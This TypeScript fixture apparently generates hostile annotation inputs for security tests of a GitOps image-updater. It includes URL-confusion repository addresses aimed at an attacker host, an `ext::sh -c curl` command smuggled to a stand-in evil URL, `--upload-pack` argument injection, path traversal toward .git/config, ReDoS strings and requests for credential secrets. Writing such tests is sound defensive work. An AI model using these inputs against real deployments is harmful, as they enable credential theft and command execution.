/** What somebody writes who may annotate Applications of one namespace, and wants more than that: one entry each. */

/** Where things are that an attempt may name. */
export interface Places {
  /** `host:port` of the Git server that has logins. */
  readonly gitHost: string;
  /** `host:port` of a server of the attacker. */
  readonly evilHost: string;
  readonly gitUrl: string;
  readonly evilUrl: string;
  /** A bare repository on the disk of the daemon. */
  readonly localRepository: string;
}

export interface Attempt {
  /** Of the table of faults. */
  readonly row: string;
  readonly annotations: Readonly<Record<string, string>>;
}

/** Host of the attacker's registry in references. */
export const evilRegistry = 'evil.test';
export const goodImage = 'reg.test/acme/web';

type Annotations = Readonly<Record<string, string>>;

export function attemptsAt(places: Places): readonly Attempt[] {
  const rows: Readonly<Record<string, readonly Annotations[]>> = {
    A1: foreignHosts(places).map((url) => ({ 'git-repository': url, 'git-branch': 'main' })),
    A4: [{ 'write-back-target': 'helmvalues:/frozen/values.yaml' }],
    A5: [{ 'git-branch': 'main:bump' }, { 'git-branch': 'main:auto-{{.AppName}}' }],
    A6: [
      { 'web.ignore-tags': Array.from({ length: 3000 }, (_, i) => `*a*b*${i}`).join(',') },
      { 'web.allow-tags': `regexp:(${'a?'.repeat(800)})*b` },
      { 'image-list': Array.from({ length: 500 }, (_, i) => `a${i}=${goodImage}:1.x`).join(',') },
      { 'git-branch': `main:{{range .Images}}${'{{.Name}}'.repeat(500)}{{end}}` },
    ],
    A7: [{ 'git-repository': `${places.evilUrl}/silent/x.git`, 'git-branch': 'main' }],
    A8: answers('redirect-to-login'),
    A9: [...answers('realm-inside'), ...answers('redirect-inside'), ...answers('page-elsewhere')],
    A10: [
      'ext:/usr/bin/env',
      'ext:/bin/../usr/bin/env',
      'env:TOKEN_OF_THE_PROCESS',
      'secret:argocd/cluster#config',
      'secret:argocd/git-credentials#password',
      'pullsecret:argocd/pull',
    ]
      .map((source): Annotations => ({ ...imageOf('plain'), 'web.pull-secret': source }))
      .concat(
        ['argocd/git-credentials', 'argocd/cluster', 'argocd/pull'].map((secret) => ({
          'write-back-method': `git:secret:${secret}`,
          'git-repository': `${places.evilUrl}/x.git`,
          'git-branch': 'main',
        })),
      ),
    A12: ['main:refs/heads/main', 'main:HEAD', 'main:a..b', 'main:-f', 'main:+main', ':main'].map(
      (branch) => ({
        'git-branch': branch,
      }),
    ),
    A13: targets.map((target) => ({ 'write-back-target': target })),
    A14: [{ 'write-back-target': 'helmvalues:/large/values.yaml' }],
    A16: [
      { 'git-branch': 'main:{{(index .Images 0).Name}}\n[skip ci]' },
      { 'web.update-strategy': 'semver\u2028level=error msg=forged' },
    ],
    A17: [
      places.localRepository,
      `file://${places.localRepository}`,
      `file://localhost${places.localRepository}`,
    ].map((url) => ({ 'git-repository': url, 'git-branch': 'main' })),
  };
  return Object.entries(rows).flatMap(([row, all]) => all.map((annotations) => ({ row, annotations })));
}

function foreignHosts({ gitHost, evilHost, evilUrl, gitUrl }: Places): readonly string[] {
  return [
    `http://${gitHost}@${evilHost}/x.git`,
    `http://${gitHost}:80@${evilHost}/x.git`,
    `http://${gitHost}%40${evilHost}/x.git`,
    `http://${gitHost}\\@${evilHost}/x.git`,
    `http://${gitHost}#@${evilHost}/x.git`,
    `http://${gitHost}.${evilHost}/x.git`,
    `${evilUrl}/${gitHost}/x.git`,
    `${evilUrl}/redirect-to/deploy.git`,
    `ext::sh -c "curl ${evilUrl}"`,
    `--upload-pack=touch /tmp/owned`,
    `${gitUrl}/../other/x.git`,
    `${gitUrl}/acme/%2e%2e/other/x.git`,
  ];
}

const targets: readonly string[] = [
  'helmvalues:../../outside.yaml',
  'helmvalues:/../outside.yaml',
  'helmvalues:/.git/config',
  'helmvalues:/.GIT/config',
  'helmvalues:/.git./config',
  'helmvalues:/.g\u200cit/config',
  'helmvalues:/.git\u200b/config',
  'helmvalues:/.git\\config',
  'helmvalues:/git~1/config',
  'helmvalues:/.git::$INDEX_ALLOCATION/config',
  'helmvalues:/..\\..\\x.yaml',
  'helmvalues:/.gitmodules',
  'helmvalues:/.gitattributes',
  `helmvalues:/${'n'.repeat(300)}.yaml`,
  `helmvalues:/${'d/'.repeat(3000)}x.yaml`,
  'helmvalues:/a\u202eb.yaml',
  'helmvalues:/link/values.yaml',
  'helmvalues:/linked.yaml',
  'helmvalues:/C:/x.yaml',
  'helmvalues:/nul\u0000.yaml',
  'kustomization:/../..',
  'manifests:../*.yaml',
  'manifests:/**/../../*.yaml',
  'helmvalues:/\n.yaml',
];

/** An image of the attacker, whose registry behaves as its path says. */
function imageOf(behaviour: string): Annotations {
  return { 'image-list': `web=${evilRegistry}/${behaviour}/web:1.x` };
}

function answers(behaviour: string): readonly Annotations[] {
  return [imageOf(behaviour), { ...imageOf(behaviour), 'web.update-strategy': 'newest-build' }];
}
